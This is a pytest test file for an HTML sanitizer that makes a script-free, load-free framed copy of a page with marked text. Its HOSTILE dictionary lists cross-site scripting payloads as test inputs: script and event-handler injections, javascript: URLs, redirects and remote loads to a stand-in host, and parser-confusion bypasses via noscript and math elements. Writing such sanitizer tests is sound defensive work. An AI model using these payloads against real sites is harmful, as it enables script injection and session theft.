"""The copy of a page in the frame: marks where the texts are, and nothing that loads or runs."""

from __future__ import annotations

import re

import pytest
import turbohtml
from hypothesis import given
from tests.each import each
from tests.generated import MARKUP
from tests.zoo import ZOO

from maintext.html import Page, parse
from maintext.lab.compare.frame import POLICY, framed_page, marked_rows

HOSTILE = {
    "script": "<p>a<script>alert(1)</script><script src=//evil.test/x.js></script>",
    "handler": "<p onclick=alert(1)>a<img src=x onerror=alert(1)><svg onload=alert(1)><p>b",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.test/'><p>a",
    "base": "<base href=//evil.test/ target=_top><p><a href=x target=_blank>a</a>",
    "form": "<form action=//evil.test/ name=querySelectorAll><input name=q autofocus formaction=//evil.test>"
    "<button formaction=javascript:alert(1)>go</button></form><p>a",
    "frames": "<iframe src=//evil.test></iframe><object data=//evil.test>o</object><embed src=//evil.test>"
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><p>a",
    "frameset": "<frameset><frame src=//evil.test></frameset>",
    "style": "<link rel=stylesheet href=//evil.test/x.css><style>@import url(//evil.test)</style>"
    "<p style='background:url(//evil.test)'>a<p style='color:red'>b"
    "<p style='background:u\\72l(//evil.test)'>c",
    "closing tags": "<p>&lt;/iframe>&lt;/mark>&lt;/script>&lt;script>alert(1)&lt;/script>"
    "&quot;>'\"&amp;quot;",
    "attributes": "<p title='\"><script>alert(1)</script>' class='\"&gt;<b>' data-k=0>a",
    "raw text": "<xmp></p><script>alert(1)</script></xmp><plaintext></plaintext><script>alert(1)</script>",
    "textarea": "<textarea>&lt;/textarea>&lt;script>alert(1)&lt;/script></textarea><title>t</title><p>a",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>a</noscript><p>b",
    "template": "<template><script>alert(1)</script><p>a</template><div><template shadowrootmode=open>"
    "<p>shadow</template></div>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>"
    "</mglyph></table></mtext><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "marks": "<mark data-k=0 class=kept>not ours</mark>",
    "images": "<img src=//evil.test/pixel srcset='//evil.test 2x'><video poster=//evil.test autoplay>"
    "<source src=//evil.test></video><picture><source srcset=//evil.test><img src=x></picture>"
    "<body background=//evil.test><p ping=//evil.test>a",
}
ALLOWED_HEAD = {"meta", "style"}
GONE = {"script", "link", "base", "iframe", "frame", "object", "embed", "video", "audio", "source", "svg"}


def copy(page: Page) -> str:
    return framed_page(page, ["kept"] * len(marked_rows(page)))


def elements(html: str) -> list[turbohtml.Element]:
    return list(turbohtml.parse(html).iter_elements())


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_the_page_runs_or_loads(name: str) -> None:
    found = elements(copy(parse(HOSTILE[name])))
    in_head = [e for e in found if e.tag in {"meta", "style"}]
    assert [e.tag for e in in_head] == ["meta", "meta", "style"]
    assert not {e.tag for e in found} & GONE
    for element in found:
        if element in in_head:
            continue
        for key, value in element.attrs.items():
            assert not key.startswith("on")
            assert key not in {
                "href",
                "src",
                "srcset",
                "action",
                "formaction",
                "srcdoc",
                "data",
                "ping",
                "name",
            }
            assert key not in {"background", "poster", "http-equiv", "target", "autofocus", "xlink:href"}
            assert "evil" not in str(value) or key in {"class", "id"}


@pytest.mark.parametrize("name", HOSTILE)
def test_the_text_of_a_hostile_page_stays_text(name: str) -> None:
    assert_marks(parse(HOSTILE[name]))


def test_the_policy_comes_before_anything_of_the_page() -> None:
    html = copy(parse(HOSTILE["script"]))
    assert html.index(POLICY) < html.index("<body")
    assert "default-src 'none'" in POLICY


def assert_marks(page: Page) -> None:
    """Every marked row is found again in its mark, by its number."""
    rows = marked_rows(page).tolist()
    marks = [e for e in elements(copy(page)) if e.tag == "mark"]
    found: dict[int, str] = {}
    for mark in marks:
        assert mark.attrs["class"] == ["kept"] or mark.attrs["class"] == "kept"
        number = int(str(mark.attrs["data-k"]))
        found[number] = found.get(number, "") + mark.text
    assert sorted(found) == list(range(len(rows)))
    for number, row in enumerate(rows):
        # A parser takes the line break that a <pre> begins with.
        assert re.sub(r"\s+", " ", found[number]).strip() == re.sub(r"\s+", " ", page.row_text(row)).strip()


@each("name", ZOO)
def test_every_text_of_the_zoo_has_its_mark(name: str) -> None:
    assert_marks(parse(ZOO[name]))


@given(MARKUP)
def test_every_text_of_any_page_has_its_mark(markup: str) -> None:
    assert_marks(parse(markup))


def test_texts_where_a_tag_would_be_read_as_text_have_no_mark() -> None:
    page = parse("<title>t</title><textarea>a</textarea><select><option>b</select><p>c")
    assert [page.row_text(row) for row in marked_rows(page)] == ["c"]


def test_looks_are_kept() -> None:
    html = copy(parse("<p style='color:red' class=lead dir=rtl>a<table border=1><tr><td colspan=2>b"))
    assert '<p style="color:red" class="lead" dir="rtl">' in html
    assert '<td colspan="2">' in html


def test_an_empty_element_is_closed() -> None:
    assert "<div></div><br><p>" in copy(parse("<div></div><br><p>a"))


def test_a_tooltip_is_escaped() -> None:
    page = parse("<p>a")
    html = framed_page(page, [""], ['"><script>&'])
    (mark,) = [e for e in elements(html) if e.tag == "mark"]
    assert mark.attrs["title"] == '"><script>&'
    assert not [e for e in elements(html) if e.tag == "script"]
